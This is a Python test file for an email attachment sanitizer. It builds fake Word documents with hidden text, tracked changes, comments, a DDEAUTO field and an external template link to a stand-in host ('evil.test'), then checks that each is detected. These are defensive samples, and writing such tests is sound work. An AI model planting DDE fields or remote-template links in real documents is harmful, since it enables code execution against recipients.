# ruff: noqa: E501 - samples are easier to read on one line
"""Word markup that no library writes: fields, boxes, changes, notes, outside templates."""

import io
import zipfile

from intake.mail import SanitizedDocument
from intake.sanitize.attachments import sanitize_document

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(body: str, **parts: str) -> SanitizedDocument:
    out = io.BytesIO()
    rels = "".join(
        f'<Relationship Id="r{n}" Type="x/{name}" Target="{name}.xml"/>' for n, name in enumerate(parts)
    )
    rels += '<Relationship Id="t" Type="x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>'
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<a/>")
        z.writestr("word/document.xml", f"<w:document {W}><w:body>{body}</w:body></w:document>")
        z.writestr("word/_rels/document.xml.rels", f"<R>{rels}</R>")
        for name, text in parts.items():
            z.writestr(f"word/{name}.xml", f"<w:x {W}>{text}</w:x>")
    return sanitize_document(out.getvalue(), filename="a.docx", media_type=None)


def run(text: str, properties: str = "") -> str:
    return f"<w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r>"


def test_fields_show_their_result_and_dde_is_told() -> None:
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd secret</w:instrText></w:r>'
    field += '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + run("shown")
    field += '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + run(" after")
    document = word(f"<w:p>{field}</w:p>")
    assert document.text == "shown after"
    assert {"dde", "remote-template"} <= {f.technique for f in document.findings}


def test_boxes_notes_and_shaded_white_are_seen_and_comments_are_not() -> None:
    box = f"<w:r><w:pict><w:txbxContent><w:p>{run('in a box')}</w:p></w:txbxContent></w:pict></w:r>"
    white = run("white on blue", '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="0000AA"/>')
    body = f"<w:p>{box}{white}<w:moveFrom>{run('secret move')}</w:moveFrom></w:p>"
    body += (
        f"<w:sdt><w:sdtContent><w:p><w:pPr><w:numPr/></w:pPr>{run('an item')}</w:p></w:sdtContent></w:sdt>"
    )
    body += f"<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr><w:tc><w:p>{run('secret row')}</w:p></w:tc></w:tr>"
    body += f"<w:tr><w:tc><w:p>{run('cell')}</w:p></w:tc></w:tr></w:tbl>"
    note = f"<w:footnote><w:p>{run('a footnote')}</w:p></w:footnote>"
    comment = f"<w:comment><w:p>{run('secret comment')}</w:p></w:comment>"
    document = word(body, footnotes=note, comments=comment)
    for words in ("in a box", "white on blue", "an item", "cell", "a footnote"):
        assert words in document.text
    assert "secret" not in document.text
    assert {"comment", "tracked-deletion", "hidden-row"} <= {f.technique for f in document.findings}


def test_a_mail_without_a_name_is_known_by_its_header() -> None:
    mail = b"From: a@b.example\nTo: c@d.example\nSubject: x\nDate: Mon, 23 Nov 2026 09:00:00 +0000\n\nhello\n"
    assert sanitize_document(mail, filename=None, media_type=None).media_type == "message/rfc822"
